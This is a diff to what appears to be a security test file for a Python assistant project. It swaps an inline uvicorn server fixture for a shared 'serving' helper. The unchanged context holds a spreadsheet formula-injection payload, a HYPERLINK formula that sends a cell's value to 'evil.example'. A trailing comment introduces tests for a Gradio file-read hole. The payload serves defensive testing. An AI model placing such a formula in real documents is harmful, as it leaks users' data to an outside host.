@@ -9,7 +9,6 @@ import json
 import select
 import socket
 import threading
-import time
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -18,7 +17,6 @@ import docx
 import httpx
 import openpyxl
 import pytest
-import uvicorn
 from fastapi.testclient import TestClient
 from sqlalchemy import text as sql
 from typer.testing import CliRunner
@@ -34,6 +32,7 @@ from pse_assistant.search.retrieval import Hit
 from pse_assistant.server import create_app
 from tests.conftest import CORPUS_DIR
 from tests.fakes import HashEmbeddings
+from tests.live import serving
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -59,20 +58,8 @@ def live(
     data = tmp_path_factory.mktemp("live") / "data"
     shutil.copytree(fake_index / "chroma", data / "chroma")
     assistant = Assistant(Settings(corpus_dir=CORPUS_DIR, data_dir=data), embedder=HashEmbeddings())
-    with socket.socket() as sock:
-        sock.bind(("127.0.0.1", 0))
-        port = sock.getsockname()[1]
-    server = uvicorn.Server(
-        uvicorn.Config(create_app(assistant, refresh_index=False), port=port, log_level="critical")
-    )
-    thread = threading.Thread(target=server.run, daemon=True)
-    thread.start()
-    deadline = time.monotonic() + 60
-    while not server.started and time.monotonic() < deadline:
-        time.sleep(0.1)
-    yield f"http://127.0.0.1:{port}", assistant
-    server.should_exit = True
-    thread.join(timeout=10)
+    with serving(create_app(assistant, refresh_index=False)) as url:
+        yield url, assistant
 
 
 # -- 1. the Gradio file-read hole ------------------------------------------------------------------
